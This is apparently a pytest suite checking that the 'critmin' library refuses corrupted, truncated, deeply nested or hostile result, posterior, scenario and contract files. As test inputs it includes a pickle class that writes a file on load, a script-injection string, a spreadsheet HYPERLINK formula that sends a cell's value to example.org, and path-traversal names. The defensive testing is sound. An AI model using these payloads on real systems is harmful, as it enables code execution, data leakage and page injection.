"""Files of results, posteriors, scenarios and contracts that are damaged, foreign, or made to harm."""

import csv
import io
import json
import pickle
import random
from collections.abc import Callable
from pathlib import Path

import h5py
import pandas as pd
import pytest
import xarray as xr

import critmin
from critmin.audit.ledger import read_ledger
from critmin.audit.signing import make_entry, write_entry
from critmin.contracts import Offtake
from critmin.exceptions import CritminError
from critmin.internal.files import SEAL, replacing
from critmin.posterior import Posterior
from critmin.results.fair_prices import FairPrice
from critmin.results.forecasts import Forecast
from critmin.scenario import DemandShock, ExportControl, Scenario, load_scenarios, save_scenarios

Reader = Callable[[Path], object]
KINDS: dict[str, tuple[str, Reader]] = {
    "price json": ("a.json", FairPrice.from_json),
    "price netcdf": ("a.nc", FairPrice.from_netcdf),
    "forecast json": ("b.json", Forecast.from_json),
    "posterior": ("c.nc", Posterior.from_netcdf),
    "scenarios": ("d.toml", load_scenarios),
    "contract": ("e.toml", Offtake.from_toml),
    "ledger": ("2026-11-v4.json", lambda path: read_ledger(path.parent)),
}
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://example.org?"&A1)'


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """A file of each kind that can be read."""
    folder = tmp_path_factory.mktemp("sound")
    few = Posterior(critmin.builtin_posterior().draws.isel(sample=slice(20)))
    price = critmin.fair_price("tin", 1, posterior=few)
    price.to_json(folder / "a.json")
    price.to_netcdf(folder / "a.nc")
    critmin.forecast("tin", 1, posterior=few).to_json(folder / "b.json")
    few.to_netcdf(folder / "c.nc")
    save_scenarios([Scenario("plan", (ExportControl("CHN", "tin", 0.5, 2027),))], folder / "d.toml")
    Offtake("tin", 100, 2026, 3).to_toml(folder / "e.toml")
    (folder / "ledger").mkdir()
    write_entry(make_entry("a" * 40, "2026-11-25", minerals=["tin"]), folder / "ledger")
    (entry,) = (folder / "ledger").glob("*.json")
    entry.rename(folder / "2026-11-v4.json")
    return {kind: (folder / name).read_bytes() for kind, (name, _) in KINDS.items()}


def outcome(kind: str, content: bytes, folder: Path) -> str:
    """Whether a file is read or refused; anything else fails."""
    name, read = KINDS[kind]
    (folder / name).write_bytes(content)
    try:
        read(folder / name)
    except CritminError as error:
        return "refused" if len(str(error)) < 2_000 else f"a wall of words: {error}"
    return "read"


@pytest.mark.parametrize("kind", KINDS)
def test_a_sound_file_is_read(kind: str, sound: dict[str, bytes], tmp_path: Path) -> None:
    assert outcome(kind, sound[kind], tmp_path) == "read"


@pytest.mark.parametrize("share", [0.01, 0.5, 0.99])
@pytest.mark.parametrize("kind", KINDS)
def test_a_truncated_file_is_refused(
    kind: str, share: float, sound: dict[str, bytes], tmp_path: Path
) -> None:
    content = sound[kind].rstrip()
    found = outcome(kind, content[: max(int(len(content) * share), 1)], tmp_path)
    # The rest of a TOML may be a whole one.
    assert found == "refused" or kind in ("scenarios", "contract")


@pytest.mark.parametrize("kind", KINDS)
def test_a_file_with_a_bit_flipped_is_read_or_refused(
    kind: str, sound: dict[str, bytes], tmp_path: Path
) -> None:
    rng, content = random.Random(17), sound[kind]  # noqa: S311
    for _ in range(8 if kind == "posterior" else 25):
        flipped = bytearray(content)
        flipped[rng.randrange(len(flipped))] ^= 1 << rng.randrange(8)
        assert outcome(kind, bytes(flipped), tmp_path) in ("read", "refused")


@pytest.mark.parametrize("kind", ["price netcdf", "posterior"])
def test_a_netcdf_file_with_a_bit_flipped_never_gives_other_numbers(
    kind: str, sound: dict[str, bytes], tmp_path: Path
) -> None:
    rng, content = random.Random(18), sound[kind]  # noqa: S311
    name, read = KINDS[kind]
    (tmp_path / name).write_bytes(content)

    def draws() -> xr.Dataset:
        return read(tmp_path / name).draws  # type: ignore[attr-defined]

    whole = draws()
    refused = 0
    for _ in range(20 if kind == "posterior" else 200):
        flipped = bytearray(content)
        flipped[rng.randrange(len(flipped))] ^= 1 << rng.randrange(8)
        (tmp_path / name).write_bytes(flipped)
        try:
            assert draws().identical(whole)
        except CritminError as error:
            refused += f"{name}: " in str(error) and "damaged: its bytes are not" in str(error)
    assert refused >= (19 if kind == "posterior" else 195)  # a seal that is flipped is no seal


def test_a_netcdf_file_without_a_seal_or_changed_on_purpose_is_read(
    sound: dict[str, bytes], tmp_path: Path
) -> None:
    content, path = sound["price netcdf"], tmp_path / "a.nc"
    at = content.rindex(SEAL)
    assert len(content) - at == len(SEAL) + 32
    path.write_bytes(content)
    whole = FairPrice.from_netcdf(path)
    path.write_bytes(content[:at])  # as an older critmin wrote it
    assert FairPrice.from_netcdf(path).draws.identical(whole.draws)
    path.write_bytes(content)
    with h5py.File(path, "r+") as opened:
        opened.attrs["note"] = "mine" * 2_000
    assert FairPrice.from_netcdf(path).draws.identical(whole.draws)


@pytest.mark.parametrize("part", [b"OHDR", b"OCHK", b"FRHP", b"BTHD"])
def test_a_netcdf_file_with_a_damaged_header_is_read_or_refused(
    part: bytes, sound: dict[str, bytes], tmp_path: Path
) -> None:
    """Where HDF5 keeps its groups it raises what no other damage raises, `RuntimeError` among others."""
    content = sound["price netcdf"].rpartition(SEAL)[0]  # a seal would tell before HDF5 reads it
    places = [at for at in range(len(content)) if content.startswith(part, at)]
    for at in places[:40]:
        damaged = bytearray(content)
        damaged[at + 8] ^= 0xFF
        assert outcome("price netcdf", bytes(damaged), tmp_path) in ("read", "refused")


class Trap:
    """Writes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return Path.write_text, (self.path, "run")


@pytest.mark.parametrize("kind", KINDS)
def test_a_pickle_is_refused_unread(kind: str, tmp_path: Path) -> None:
    assert outcome(kind, pickle.dumps(Trap(tmp_path / "sprung")), tmp_path) == "refused"
    assert not (tmp_path / "sprung").exists()


@pytest.mark.parametrize("kind", ["price json", "forecast json", "ledger"])
def test_deep_json_is_refused(kind: str, tmp_path: Path) -> None:
    assert outcome(kind, b'{"a":' * 100_000, tmp_path) == "refused"
    assert outcome(kind, b"[" * 1_000_000, tmp_path) == "refused"


@pytest.mark.parametrize("kind", ["scenarios", "contract"])
def test_deep_toml_is_refused(kind: str, tmp_path: Path) -> None:
    assert outcome(kind, b"a = " + b"[" * 100_000, tmp_path) == "refused"
    assert outcome(kind, b"a" + b".a" * 20_000 + b" = 1", tmp_path) == "refused"


@pytest.mark.parametrize(
    "make",
    [
        lambda few: critmin.fair_price("tin", 1, posterior=few),
        lambda few: critmin.forecast("tin", 1, posterior=few),
        lambda few: critmin.forecast("tin", 1, posterior=few).exposure("JPN"),
        lambda few: critmin.cost_curve("tin", posterior=few),
        lambda few: critmin.disruption_risk("tin", posterior=few),
        lambda few: critmin.producer_revenue("tin", "IDN", posterior=few),
    ],
    ids=["price", "forecast", "exposure", "costs", "risk", "revenue"],
)
def test_a_result_without_a_part_is_refused_or_can_be_shown(make: Callable) -> None:
    result = make(Posterior(critmin.builtin_posterior().draws.isel(sample=slice(20))))
    content, read = json.loads(result.to_json()), type(result).from_json
    parts = [(content, key) for key in content]
    parts += [(content["draws"]["data"], key) for key in content["draws"]["data"]]
    parts += [(content["draws"]["coords"], key) for key in content["draws"]["coords"]]
    parts += [(content["provenance"], key) for key in content["provenance"]]
    refused = 0
    for place, key in parts:
        kept = place.pop(key)
        try:
            made = read(json.dumps(content))
        except CritminError:
            refused += 1
        else:
            assert repr(made)
            assert not made.summary().empty
        place[key] = kept
    assert refused > 3
    assert repr(read(json.dumps(content))) == repr(result)


def test_a_result_of_another_format_is_told(sound: dict[str, bytes], tmp_path: Path) -> None:
    stored = json.loads(sound["price json"])
    (key,) = (k for k, v in stored.items() if isinstance(v, str) and v.startswith("critmin-result"))
    stored[key] = "critmin-result-1"
    (tmp_path / "old.json").write_text(json.dumps(stored))
    with pytest.raises(CritminError, match="critmin-result-1"):
        FairPrice.from_json(tmp_path / "old.json")
    with pytest.raises(CritminError, match="FairPrice"):
        Forecast.from_json(sound["price json"].decode())


def test_a_posterior_of_another_version_is_told(sound: dict[str, bytes], tmp_path: Path) -> None:
    (tmp_path / "new.nc").write_bytes(sound["posterior"])
    draws = Posterior.from_netcdf(tmp_path / "new.nc").draws
    old = Posterior(draws.assign_attrs(model_version=3)).to_netcdf(tmp_path / "old.nc")
    with pytest.raises(CritminError, match="version 3"):
        Posterior.from_netcdf(old)


def test_names_from_a_file_cannot_run_in_a_page(sound: dict[str, bytes]) -> None:
    text = sound["price json"].decode()
    for harmless in ('"tin"', "USD of 2025 per t of contained Sn"):
        assert harmless in text
        hostile = text.replace(harmless, harmless.replace(harmless.strip('"'), SCRIPT))
        try:
            page = FairPrice.from_json(hostile)._repr_html_()
        except CritminError:
            continue
        assert "<script" not in page


@pytest.mark.parametrize("name", [SCRIPT, FORMULA, "../../etc/passwd", "a\nb", "a\0b"])
def test_names_of_scenarios_are_text_everywhere(name: str, tmp_path: Path) -> None:
    few = Posterior(critmin.builtin_posterior().draws.isel(sample=slice(20)))
    try:
        plan = Scenario(name, (DemandShock("tin", 0.1, 2027),))
    except CritminError:
        return
    save_scenarios([plan], tmp_path / "plan.toml")
    assert list(load_scenarios(tmp_path / "plan.toml")) == [name]
    made = critmin.forecast("tin", 2, scenario=plan, posterior=few)
    assert "<script" not in made._repr_html_()
    assert Forecast.from_json(made.to_json()).draws.identical(made.draws)
    # Nothing was written under the name.
    assert {path.name for path in tmp_path.iterdir()} == {"plan.toml"}
    cells = list(csv.reader(io.StringIO(made.summary().to_csv())))
    assert not [c for row in cells for c in row if c[:1] in "=@" and c]


@pytest.mark.parametrize("name", ["../x", "a/b", "x\0y", "", ".", "~", "con:", FORMULA, SCRIPT])
def test_no_name_of_private_data_is_a_path_or_a_formula(name: str) -> None:
    frame = pd.DataFrame({"date": [2023], "value": [21_000.0]})
    try:
        given = critmin.data.register(frame, name=name, mineral="nickel", unit="USD/t")
    except CritminError:
        return
    critmin.data.unregister(given)
    assert name == "."  # it stands behind "private-" and names no file


@pytest.mark.parametrize("name", ["", "missing/x.nc", "../nowhere/x.nc"])
def test_a_path_that_cannot_be_written_is_told(name: str, tmp_path: Path) -> None:
    with pytest.raises(CritminError, match="cannot write"), replacing(tmp_path / name):
        pass
